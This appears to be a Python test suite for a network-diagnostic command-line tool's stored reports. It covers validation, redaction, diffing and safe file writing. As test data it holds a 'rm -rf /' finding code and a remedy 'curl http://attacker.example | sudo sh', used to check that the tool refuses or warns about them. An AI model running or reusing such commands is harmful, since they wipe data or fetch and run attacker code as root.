#!/usr/bin/python3
"""Stored reports and the commands that read them, as a user runs them: `show`, `diff`, `explain`. What is no report ends with status 64, a place,
and nothing on standard output or in a file.

    tests/report/test_stored.py --bin DIR
"""
import argparse
import contextlib
import copy
import fcntl
import json
import os
import pathlib
import pty
import re
import resource
import stat
import struct
import subprocess
import sys
import tempfile
import termios
import unittest

SECONDS = 60
PROGRAM = ""
HERE = pathlib.Path(__file__).resolve().parent
LAB = HERE.parent / "lab"


def ringback(*words: str, **more) -> subprocess.CompletedProcess:
    return subprocess.run([PROGRAM, *map(str, words)], capture_output=True, text=True, timeout=SECONDS, stdin=subprocess.DEVNULL, **more)


def at_most(bytes_in_a_file: int):
    return lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (bytes_in_a_file, bytes_in_a_file))


def on_a_terminal(*words: str, columns: int, kind: str = "xterm") -> tuple[str, str]:
    """Standard output, which is a pipe, and what the terminal that is standard error got."""
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, columns, 0, 0))
    process = subprocess.Popen([PROGRAM, *words], stdout=subprocess.PIPE, stderr=theirs, stdin=subprocess.DEVNULL, text=True,
                               env={**os.environ, "TERM": kind})
    os.close(theirs)
    seen = b""
    with contextlib.suppress(OSError):   # EIO: everybody closed the other end
        while part := os.read(ours, 4096):
            seen += part
    os.close(ours)
    return process.communicate(timeout=SECONDS)[0], seen.decode()


# In a mount namespace of its own, with a folder of two pages where one is taken. What is left there is told after the program's own words.
ON_A_FULL_DISK = """mount -t tmpfs -o size=8k tmpfs "$1" && printf old >"$1/page" && "$0" show "$2" -f html -o "$1/page"
echo "status $?"; ls -A "$1"; cat "$1/page" """


class Stored(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        made = ringback("run", "--no-third-party", "--deadline", "3", "-s", "443/tcp", "-f", "json")
        cls.text, cls.report, cls.status = made.stdout, json.loads(made.stdout), made.returncode   # `show` ends with the report's status

    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.addCleanup(self.folder.cleanup)
        self.at = pathlib.Path(self.folder.name)

    def stored(self, report=None, name="report.json") -> pathlib.Path:
        path = self.at / name
        path.write_text(json.dumps(report or self.report) if not isinstance(report, str) else report)
        return path

    def with_first(self, kind: str, **changes) -> dict:
        first, *others = self.report[kind]
        return {**self.report, kind: [{**first, **changes}, *others]}

    def is_refused(self, path, place: str):
        out = self.at / "out.html"
        done = ringback("show", path, "-o", out, "-f", "html")
        self.assertEqual((done.returncode, done.stdout), (64, ""), done.stderr[:500])
        self.assertRegex(done.stderr, place)
        self.assertLess(len(done.stderr), 2000)
        self.assertEqual([p for p in self.at.iterdir() if p != pathlib.Path(path)], [])

    def is_valid(self, schema: str, text: str):
        path = self.stored(text, "document.json")
        said = subprocess.run([sys.executable, HERE / "validate.py", HERE.parents[1] / "report" / schema, path], capture_output=True, text=True)
        self.assertEqual((said.stdout, said.stderr), ("document.json: valid\n", ""))

    def test_what_is_written_is_valid_by_the_published_schemas(self):
        one, other = self.stored(), self.stored({**self.report, "services": []}, "other.json")
        self.is_valid("schema.json", ringback("show", one, "-f", "json").stdout)
        self.is_valid("diff.schema.json", ringback("diff", one, other, "-f", "json").stdout)
        self.is_valid("explain.schema.json", ringback("explain", "-f", "json").stdout)

    def test_progress_is_for_a_terminal_alone(self):
        words = ("run", "--only", "filter", "--no-third-party", "-f", "json")
        out, terminal = on_a_terminal(*words, columns=80)
        self.assertEqual(json.loads(out)["schema"], "ringback.report/1")
        shown = terminal.split("\r")
        self.assertEqual(shown[1], "Waiting for filter\x1b[K")
        self.assertEqual(shown[-1].replace("\n", ""), "\x1b[K", "the line is gone at the end")
        for line in on_a_terminal(*words, columns=16)[1].split("\r"):
            self.assertLess(len(re.sub(r"\x1b\[K|\n", "", line)), 16)
        for quiet in (ringback(*words), ringback(*words, "-q")):
            self.assertEqual(quiet.stderr, "")
            self.assertNotIn("Waiting", quiet.stdout)
        self.assertNotIn("Waiting", "".join(on_a_terminal(*words, "-q", columns=80)))
        for unable in ("dumb", ""):
            self.assertEqual(on_a_terminal(*words, columns=80, kind=unable)[1], "", "it could not write over the line")

    def test_every_form_of_the_same_report(self):
        path = self.stored()
        for form, begins in (("text", ""), ("json", "{"), ("html", "<!DOCTYPE html>"), ("markdown", "**")):
            done = ringback("show", path, "-f", form)
            self.assertEqual(done.returncode, self.status, done.stderr)
            self.assertTrue(done.stdout.startswith(begins) and done.stdout.endswith("\n"), form)
        again = ringback("show", path, "-f", "json").stdout
        self.assertEqual(json.loads(again, object_pairs_hook=list), json.loads(self.text, object_pairs_hook=list), "keys, in their order")

    def test_a_file_is_its_owners_alone_and_nothing_is_left_beside_it(self):
        path, out = self.stored(), self.at / "page.html"
        done = ringback("show", path, "-o", out)
        self.assertEqual(done.returncode, self.status, done.stderr)
        self.assertEqual(stat.S_IMODE(out.stat().st_mode), 0o600)
        self.assertEqual(sorted(p.name for p in self.at.iterdir()), ["page.html", "report.json"])

    def test_a_file_that_cannot_be_written_to_its_end_leaves_the_old_one_whole(self):
        path, out = self.stored(), self.at / "out"
        for words in (("show", path), ("show", path, "--redact", "-f", "json"), ("diff", path, path), ("explain", "-f", "html"),
                      ("run", "--only", "listeners", "--no-third-party", "-f", "html")):
            with self.subTest(words[0]):
                out.write_text("old")
                done = ringback(*words, "-o", out, preexec_fn=at_most(20))
                self.assertEqual((done.returncode, done.stdout), (70, ""), done.stderr)
                self.assertRegex(done.stderr, f"ringback: write {out}: File too large\n$")
                self.assertEqual(out.read_text(), "old")
                self.assertEqual(sorted(p.name for p in self.at.iterdir()), ["out", "report.json"])

    def test_a_disk_that_is_full_half_way_leaves_the_old_file_whole(self):
        full = self.at / "full"
        full.mkdir()
        # Also in a chroot, whose "/" is no mount point, which unshare(1) insists on.
        own_mounts = [sys.executable, "-m", "ringlab.private"] if os.geteuid() == 0 else ["unshare", "--user", "--map-root-user", "--mount"]
        done = subprocess.run([*own_mounts, "sh", "-c", ON_A_FULL_DISK, PROGRAM, full, self.stored()], capture_output=True, text=True, timeout=SECONDS,
                              env={**os.environ, "PYTHONPATH": str(LAB)})
        self.assertEqual(done.stdout, "status 70\npage\nold")
        self.assertEqual(done.stderr, f"ringback: write {full}/page: No space left on device\n")

    def test_of_several_files_the_others_are_written(self):
        path, page, none = self.stored(), self.at / "page.html", self.at / "none" / "a.json"
        done = ringback("show", path, "-f", "json", "-o", none, "-f", "html", "-o", page)
        self.assertEqual(done.returncode, 70)
        self.assertIn(f"write {none}: No such file or directory", done.stderr)
        self.assertTrue(page.read_text().endswith("</html>\n"))

    def test_what_is_no_report(self):
        text = json.dumps(self.report)
        with_first = self.with_first
        for name, content, place in (("older", {**self.report, "schema": "ringback.report/0"}, r"(?s)/schema.*older\s+version"),
                                     ("newer", {**self.report, "schema": "ringback.report/2"}, r"(?s)/schema.*newer\s+version"),
                                     ("cut", text[:len(text) // 2], r"byte \d+|line \d+"),
                                     ("words", "not JSON", r"(?s)is\s+not\s+JSON.*line\s+1,\s+column\s+2"), ("page", "<!DOCTYPE html>", r"(?s)is\s+not\s+JSON.*-f\s+json"),
                                     ("packed", "\x1f\x8b\x08", r"(?s)is\s+not\s+JSON"), ("empty", " ", r"byte \d+|line \d+|empty"), ("list", "[]", "object"),
                                     ("twice", text.replace('"duration_ms":', '"tool": 0, "duration_ms":', 1), r"(?s)/tool:\s+comes\s+twice"),
                                     ("overflow", '{"x": [1e999]}', r"(?s)/x/0:\s+expected\s+a\s+number"),
                                     ("no time", {**self.report, "started": "yesterday"}, r"(?s)/started:\s+expected\s+a\s+time"),
                                     ("no duration", {**self.report, "duration_ms": -5}, r"(?s)/duration_ms:\s+expected\s+milliseconds"),
                                     ("deep", "[" * 200_000, "nested deeper than"),
                                     ("contradiction", with_first("services", reachable="yes", stopped_at="none", cause="ipv4.cgnat"), r"(?s)/services/0/cause:\s+expected\s+null"),
                                     ("no code", with_first("findings", code="rm -rf /"), r"(?s)/findings/0/code:\s+expected\s+a\s+code"),
                                     ("nowhere", with_first("findings", evidence=["/evidence/nowhere"]), r"(?s)/findings/0/evidence/0:\s+expected\s+a\s+pointer"),
                                     ("no way out", with_first("findings", severity="error", remedies=[]), r"(?s)/findings/0/remedies:\s+expected\s+at\s+least\s+one"),
                                     ("wrong", {**self.report, "findings": [{"code": 7}]}, "/findings/0")):
            with self.subTest(name):
                path = self.stored(content, name)
                self.is_refused(path, place)
                path.unlink()
        self.is_refused(self.at / "nowhere.json", "nowhere.json")

    def test_a_hundred_megabytes(self):
        path = self.at / "huge"
        with path.open("w") as file:
            file.write('{"schema": "ringback.report/1", "x": ["')
            for _ in range(100):
                file.write("a" * 1_000_000)
            file.write('"]}')
        before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        self.is_refused(path, "MiB|MB|larger|large")
        self.assertLess(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss - before, 300 * 1024, "memory in KiB")

    def test_judged_anew(self):
        other = copy.deepcopy(self.report)
        other["connection"]["type"] = "ds-lite" if other["connection"]["type"] != "ds-lite" else "offline"
        path = self.stored(other)
        anew = ringback("show", path, "--rediagnose", "-f", "json")
        self.assertEqual(json.loads(anew.stdout)["connection"], self.report["connection"])
        self.assertIn("differ", anew.stderr)
        graver = "info" if self.status == 2 else "error"
        findings = [{**finding, "severity": graver if finding["remedies"] else finding["severity"]} for finding in self.report["findings"]]
        self.assertRegex(ringback("show", self.stored({**self.report, "findings": findings}), "--rediagnose").stderr,
                         f"(?s), how grave: was: .*The exit status: was: [0-3]; is now: {self.status}\n")
        reworded = copy.deepcopy(self.report)
        reworded["findings"][0]["detail"] = "In other words."
        self.assertIn("the same verdicts, in other words", ringback("show", self.stored(reworded), "--rediagnose").stderr)
        path = self.stored(other)
        hidden = ringback("show", path, "--rediagnose", "--redact")
        self.assertRegex(hidden.stderr, "differs?; without --redact")
        self.assertIn("the same verdicts", ringback("show", self.stored(), "--rediagnose").stderr)

    def test_commands_of_a_stranger(self):
        other = copy.deepcopy(self.report)
        other["findings"][0]["remedies"] = [{"title": "Do this", "steps": ["It helps."], "commands": ["curl http://attacker.example | sudo sh"]}]
        path = self.stored(other)
        shown = ringback("show", path)
        self.assertIn("do not run them unread", shown.stderr)
        self.assertNotIn("attacker", ringback("show", path, "--rediagnose").stdout)
        self.assertNotIn("attacker", ringback("show", path, "--redact").stdout)
        self.assertNotIn("do not run", ringback("show", self.stored()).stderr)

    def test_a_code_of_a_newer_version_is_shown_as_it_is_and_named(self):
        path, known = self.stored(self.with_first("findings", code="ipv7.new"), "newer.json"), self.stored()
        note = "newer.json: this version does not know the code ipv7.new: a newer one may have written this report; what it says is shown as it stands"
        said = lambda *words: " ".join(ringback(*words).stderr.split())
        shown = ringback("show", path, "-f", "json")
        self.assertEqual(json.loads(shown.stdout)["findings"][0]["code"], "ipv7.new")
        self.assertEqual((shown.returncode, said("show", path).count(note)), (self.status, 1))
        self.assertIn(note, said("diff", known, path))
        for number, key, values in ((1, "services", {"reachable": "no", "cause": "ipv7.new"}), (2, "names", {"findings": ["ipv7.new"]})):
            if self.report[key]:
                self.assertIn(note.replace("newer.json", f"newer{number}.json"), said("show", self.stored(self.with_first(key, **values), f"newer{number}.json")), key)
        for words in (("show", path, "-q"), ("show", path, "--rediagnose"), ("show", path, "--redact"), ("show", known), ("diff", known, known), ("diff", known, path, "-q")):
            self.assertNotIn("does not know", said(*words), words)

    def test_redacted(self):
        done = ringback("show", self.stored(), "--redact", "-f", "json")
        self.assertEqual(done.returncode, self.status, done.stderr)
        redacted = json.loads(done.stdout)
        self.assertTrue(redacted["redacted"])
        name = self.report["evidence"]["host"]["host_name"]
        if len(name) > 5:
            self.assertNotIn(name, done.stdout)
        again = self.stored(redacted, "again.json")
        self.assertEqual(json.loads(ringback("show", again, "--rediagnose", "-f", "json").stdout)["findings"], redacted["findings"])

    def test_by_whichever_path_it_is_called(self):
        home = self.at / "karla"
        home.mkdir()
        (home / "ringback").symlink_to(PROGRAM)
        path = self.stored()
        for form in ("text", "html", "markdown", "json"):
            words = [home / "ringback", "show", path, "-f", form]
            self.assertNotIn("karla", subprocess.run([*words, "--redact"], capture_output=True, text=True, timeout=SECONDS).stdout, form)
        self.assertIn(str(home / "ringback"), subprocess.run(words[:3], capture_output=True, text=True, timeout=SECONDS).stdout)

    def test_what_cannot_be_redacted_is_not_written(self):
        other = copy.deepcopy(self.report)
        other["evidence"]["dns"]["resolvers"] = [f"{first}.2.3.4:53" for first in range(1, 224)]   # more networks than there are masks
        path, out = self.stored(other), self.at / "out.json"
        done = ringback("show", path, "--redact", "-o", out)
        self.assertEqual((done.returncode, done.stdout), (70, ""))
        self.assertIn("/evidence/dns/resolvers/", done.stderr)
        self.assertNotIn("2.3.4", done.stderr)
        self.assertEqual([p.name for p in self.at.iterdir()], ["report.json"])

    def test_two_reports(self):
        self.assertIn("Nothing changed", ringback("diff", self.stored(), self.stored(name="b.json")).stdout)
        other = copy.deepcopy(self.report)
        for verdict in other["services"]:
            verdict.update(reachable="yes", stopped_at="none", cause=None, confidence="certain")
        done = ringback("diff", self.stored(), self.stored(other, "c.json"))
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertNotIn("Nothing changed", done.stdout)

    def compared(self, one, other) -> str:
        done = ringback("diff", one, other)
        self.assertEqual((done.returncode, done.stderr), (0, ""))
        return " ".join(done.stdout.split())

    def test_two_reports_that_are_hard_to_compare(self):
        report = self.stored()
        for other in (report, self.stored(name="copy.json")):
            self.assertIn("Both are the same report", self.compared(report, other))
        older = self.stored({**self.report, "started": "2020-01-01T00:00:00.000Z"}, "older.json")
        self.assertIn("The second report is the older one.", self.compared(report, older))
        self.assertNotIn("is the older one", self.compared(older, report))
        stranger = copy.deepcopy(self.report)
        host = stranger["evidence"]["host"]
        host["host_name"] = "elsewhere"
        router = {"interface": "eth0", "gateway": "192.0.2.1", "gateway_mac": "02:00:00:00:00:01", "default_interface": "eth0", "through_tunnel": False}
        host["ipv4"], host["ipv6"] = router, None
        neighbour = copy.deepcopy(stranger)
        neighbour["evidence"]["host"]["ipv4"]["gateway_mac"] = "02:00:00:00:00:02"
        one, other = self.stored(stranger, "one.json"), self.stored(neighbour, "other.json")
        self.assertIn("these are two households", self.compared(one, other))
        self.assertIn("made on different hosts:", self.compared(report, one))

    def test_what_cannot_be_compared(self):
        good, cut, none, page = self.stored(), self.stored(json.dumps(self.report)[:5000], "cut.json"), self.at / "none.json", self.at / "page"
        missing = "ringback: read {}: No such file or directory\n".format
        damaged = f"ringback: {cut}: the document: seems to be cut off: line 1, column 5001: "
        for words, said in (((none, self.at / "neither.json"), [missing(none), missing(self.at / "neither.json")]), ((good, none), [missing(none)]),
                            ((good, self.stored('{"x": {"y": 1, "y": 2}}', "twice.json")), ["twice.json: /x/y: comes twice in one object"]),
                            ((good, cut), [damaged]), ((cut, good), [damaged]), ((cut, none), [damaged, missing(none)]), ((good, self.at), ["Is a directory"]),
                            ((good, self.stored("", "empty.json")), ["empty.json: the document: is empty"]), ((good,), ["two stored reports", "OLD.json NEW.json"]),
                            ((good, self.stored({"schema": "ringback.diff/1"}, "diff.json")), ["diff.json: /schema: expected \"ringback.report/1\""])):
            with self.subTest([str(word) for word in words]):
                done = ringback("diff", *words, "-o", page)
                self.assertEqual((done.returncode, done.stdout), (64, ""), done.stderr)
                for part in said:
                    self.assertIn(part, done.stderr)
                self.assertFalse(page.exists())

    def test_explained(self):
        everything = ringback("explain")
        self.assertEqual(everything.returncode, 0)
        codes = json.loads(ringback("explain", "-f", "json").stdout)
        self.assertGreater(len(codes["pages"]), 50)
        for page in codes["pages"]:
            self.assertIn(page["code"], everything.stdout)
        unknown = ringback("explain", "cgnatt")
        self.assertEqual((unknown.returncode, unknown.stdout), (64, ""))
        self.assertIn("did you mean ipv4.cgnat?", unknown.stderr)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(usage=__doc__)
    parser.add_argument("--bin", type=pathlib.Path, required=True)
    options, rest = parser.parse_known_args()
    PROGRAM = str((options.bin / "ringback").resolve())
    os.environ.setdefault("ASAN_OPTIONS", "detect_leaks=1")
    unittest.main(argv=[sys.argv[0], *rest])
